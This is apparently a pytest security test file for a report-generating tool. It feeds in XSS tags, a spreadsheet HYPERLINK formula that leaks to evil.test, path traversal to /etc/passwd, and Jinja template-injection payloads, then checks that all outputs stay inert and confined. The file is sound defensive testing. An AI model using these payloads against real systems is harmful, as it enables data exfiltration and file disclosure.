"""A hostile instrument, answers and template: nothing leaves the folder, no socket opens, and all shows as text."""

import csv
import shutil
import socket
import subprocess
import zipfile
from pathlib import Path

import openpyxl
import pytest

from ticassess.cli.boundary import run

LOCAL = "file://"  # spelled apart: no tracked file names an address in the file system
SCRIPT = "<script>alert(1)</script> {{ 7*7 }} {% if %}"
FORMULA = "=HYPERLINK(http://evil.test/?leak; here)"
INSTRUMENT = f"""
ticassess: 1
kind: instrument
id: tiny
version: "1"
title: {{en: "{SCRIPT}"}}
languages: {{en: source}}
rights: {{owner: "<img src={LOCAL}/etc/passwd>", licence: CC-BY-4.0, citation: "http://evil.test", wording: open}}
response_scales:
  agreement:
    options:
      - {{value: 1, label: {{en: "<b>No</b>"}}}}
      - {{value: 2, label: {{en: "{{{{ config }}}}"}}}}
      - {{value: 3, label: {{en: "Yes"}}}}
    positive: [3]
items:
  - {{id: a, text: {{en: "It is calm. <iframe src=http://evil.test>"}}, response_scale: agreement, in: [calm]}}
  - {{id: b, text: {{en: "It is safe. {SCRIPT}"}}, response_scale: agreement, in: [calm]}}
  - {{id: c, text: {{en: "url({LOCAL}/etc/passwd)"}}, response_scale: agreement, in: [calm]}}
scales:
  - {{id: calm, framework: principle, title: {{en: "<svg onload=alert(1)>"}}}}
"""
ASSESSMENT = f"""
ticassess: 1
kind: assessment
organisation: "{SCRIPT}"
instrument: tiny.yaml
responses: [{{file: answers.csv}}]
by: [role]
outputs: [report.pdf, results.csv, results.xlsx, results.json]
"""
LEVELS = (FORMULA, "../../../etc/passwd", "<script>alert(1)</script>", "{{ 7*7 }}")


class NoSocket(socket.socket):
    def __init__(self, *_: object, **__: object) -> None:
        raise AssertionError("a socket was opened")


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Give a folder inside a fenced one; afterwards the fence must be as it was."""
    monkeypatch.setattr(socket, "socket", NoSocket)
    inside = tmp_path / "fence" / "inside"
    inside.mkdir(parents=True)
    (inside / "tiny.yaml").write_text(INSTRUMENT)
    (inside / "assessment.yaml").write_text(ASSESSMENT)
    rows = [[LEVELS[i % 4], *(str(1 + (i * k) % 3) for k in (1, 2, 4))] for i in range(80)]
    with (inside / "answers.csv").open("w", newline="") as file:
        csv.writer(file).writerows([["role", "a", "b", "c"], *rows])
    return inside


def outside(folder: Path) -> set[Path]:
    return {path for path in folder.parent.parent.rglob("*") if folder not in (path, *path.parents)}


def test_it_all_shows_as_text(folder: Path) -> None:
    before = outside(folder)
    assert run(["report", str(folder / "assessment.yaml")]) == 0
    assert outside(folder) == before
    assert {path.name for path in folder.iterdir()} == {
        "tiny.yaml", "assessment.yaml", "answers.csv", "assessment.ledger.json",
        "report.pdf", "results.csv", "results.xlsx", "results.json",
    }  # fmt: skip
    data = (folder / "report.pdf").read_bytes()
    for action in (b"/JavaScript", b"/Launch", b"/EmbeddedFile", b"/OpenAction", b"evil.test/"):
        assert action not in data
    table = list(csv.reader((folder / "results.csv").read_text(encoding="utf-8").splitlines()))
    assert not [cell for row in table for cell in row if cell.startswith("=HYPERLINK")]
    cells = [c for sheet in openpyxl.load_workbook(folder / "results.xlsx") for row in sheet.iter_rows() for c in row]
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    assert all(cell.hyperlink is None for cell in cells)
    parts = zipfile.ZipFile(folder / "results.xlsx").namelist()
    assert not [part for part in parts if "pivot" in part or "external" in part or "vba" in part.lower()]


@pytest.mark.skipif(shutil.which("pdftotext") is None, reason="poppler-utils is not installed")
def test_the_page_shows_what_was_written(folder: Path) -> None:
    assert run(["report", str(folder / "assessment.yaml")]) == 0
    text = subprocess.run(["pdftotext", str(folder / "report.pdf"), "-"], check=True, capture_output=True, text=True)
    flat = " ".join(text.stdout.split())
    assert "{{ 7*7 }}" in flat
    assert "<script>alert(1)</script>" in flat
    assert "root:" not in flat


@pytest.mark.parametrize(
    "template",
    [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ report.__init__.__globals__ }}",
        f"<img src='{LOCAL}/etc/passwd' alt=''>",
        "<img src='http://evil.test/x.png' alt=''>",
        "{% include '../../../etc/passwd' %}",
        f"<style>@import url({LOCAL}/etc/hostname);</style>",
        f"<link rel=attachment href='{LOCAL}/etc/passwd'>",
    ],
)
def test_a_template_reaches_nothing(template: str, folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    own = folder / "own"
    own.mkdir()
    (own / "report.html.j2").write_text(f"<html lang=en><head><title>x</title></head><body>{template}</body></html>")
    code = run(["report", str(folder / "assessment.yaml"), "-o", str(folder / "own.pdf"), "--template", str(own)])
    assert code == 1
    assert not (folder / "own.pdf").exists()
    assert "root:" not in capsys.readouterr().err


@pytest.mark.parametrize("name", ["../out.json", "/tmp/out.json", "C:\\\\out.json", "a/../../out.json"])
def test_an_output_stays_in_its_folder(name: str, folder: Path) -> None:
    path = folder / "assessment.yaml"
    path.write_text(ASSESSMENT.replace("report.pdf, results.csv, results.xlsx, results.json", f'"{name}"'))
    before = outside(folder)
    assert run(["report", str(path)]) == 1
    assert outside(folder) == before


def test_a_cell_of_a_hundred_megabytes_ends_in_a_message(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    with (folder / "answers.csv").open("a") as file:
        file.write('nurse,1,2,"')
        for _ in range(100):
            file.write("x" * 1_000_000)
        file.write('"\n')
    assert run(["score", str(folder / "tiny.yaml"), str(folder / "answers.csv"), "--by", "role"]) in (1, 3)
    assert len(capsys.readouterr().err) < 10_000
